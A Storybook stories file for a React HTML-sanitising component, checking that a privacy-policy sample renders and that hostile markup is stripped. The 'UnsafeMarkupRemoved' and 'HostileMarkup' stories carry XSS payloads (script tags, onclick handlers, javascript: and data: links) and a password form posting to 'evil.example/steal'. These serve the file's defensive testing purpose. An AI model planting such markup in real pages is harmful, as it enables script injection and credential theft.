import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, within } from 'storybook/test';
import { sampleImages } from '../../test-assets';
import { SafeHtml } from './SafeHtml';
import { inForcedColors } from '../../test-assets/forcedColors';

const policyHtml = `
<h2>Privacy Policy</h2>
<p>We collect the details you give us when you <strong>register</strong> or <a href="/contact-us">contact us</a>.</p>
<h3>What we collect</h3>
<ul><li>Name, company name and mobile number</li><li>Email address</li><li>Listings you post</li></ul>
<ol><li>Register</li><li>Verify the OTP</li></ol>
<blockquote>We never sell your data.</blockquote>
<table>
  <thead><tr><th>Data</th><th>Kept for</th></tr></thead>
  <tbody><tr><td>Account details</td><td>While the account is open</td></tr><tr><td>Chat messages</td><td>2 years</td></tr></tbody>
</table>
<p><img src="${sampleImages[1]}" alt="Sample figure" width="1200" height="400"></p>
`;

const meta = {
  title: 'Components/SafeHtml',
  component: SafeHtml,
  args: { html: policyHtml, as: 'article' },
  argTypes: { as: { control: 'inline-radio', options: ['div', 'article', 'section'] } },
} satisfies Meta<typeof SafeHtml>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Playground: Story = {};

export const Prose: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('heading', { level: 2, name: 'Privacy Policy' })).toBeInTheDocument();
    await expect(canvas.getByRole('table')).toBeInTheDocument();
    const image = canvas.getByRole('img', { name: 'Sample figure' });
    // Wide images shrink to the text column.
    await expect(image.getBoundingClientRect().width).toBeLessThanOrEqual(canvasElement.clientWidth);
  },
};

export const UnsafeMarkupRemoved: Story = {
  args: {
    html:
      '<h2>About Us</h2><p onclick="alert(1)" style="color:#ff0000">We connect the plastics industry.</p>' +
      '<script>alert(1)</script><p><a href="javascript:alert(1)">A dangerous link</a></p>',
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvasElement.querySelector('script')).toBeNull();
    const paragraph = canvas.getByText('We connect the plastics industry.');
    await expect(paragraph).not.toHaveAttribute('onclick');
    await expect(paragraph).not.toHaveAttribute('style');
    await expect(canvas.getByText('A dangerous link')).not.toHaveAttribute('href');
  },
};

export const HostileMarkup: Story = {
  args: {
    html:
      '<h2>Our partners</h2>' +
      '<p id="root" class="rj8x8a0">See the partner list <a href="https://example.com/partners" target="_self">on their site</a>' +
      ' or <a href="/contact-us">ask us</a>.</p>' +
      '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>' +
      '<iframe src="https://evil.example/"></iframe><dialog open>You won a prize!</dialog>' +
      '<svg><a xlink:href="javascript:alert(1)"><text y="20">Click</text></a></svg>' +
      '<video src="https://evil.example/v.mp4" autoplay></video>' +
      '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">' +
      '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">A data link</a></p>' +
      '<style>body { display: none }</style>',
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('heading', { level: 2, name: 'Our partners' })).toBeInTheDocument();
    await expect(
      canvasElement.querySelector('form, input, button, iframe, dialog, svg, video, style, img'),
    ).toBeNull();
    await expect(canvas.queryByText('You won a prize!')).toBeNull();
    // The server's ids and classes cannot take the app's.
    const paragraph = canvas.getByText(/See the partner list/);
    await expect(paragraph).toHaveAttribute('id', 'user-content-root');
    await expect(paragraph).not.toHaveAttribute('class');
    const external = canvas.getByRole('link', { name: 'on their site' });
    await expect(external).toHaveAttribute('target', '_blank');
    await expect(external).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(canvas.getByRole('link', { name: 'ask us' })).not.toHaveAttribute('target');
    await expect(canvas.getByText('A data link')).not.toHaveAttribute('href');
  },
};

export const Empty: Story = { args: { html: '' } };

/** Playground in the dark theme: the themes differ only in their colour tokens, and axe checks their contrast here. */
export const DarkTheme: Story = { ...Playground, globals: { ...Playground.globals, theme: 'dark' } };

/** Windows' contrast themes (forced colours): its states stay told apart and its focus ring stays. */
export const ForcedColors: Story = inForcedColors(DarkTheme);
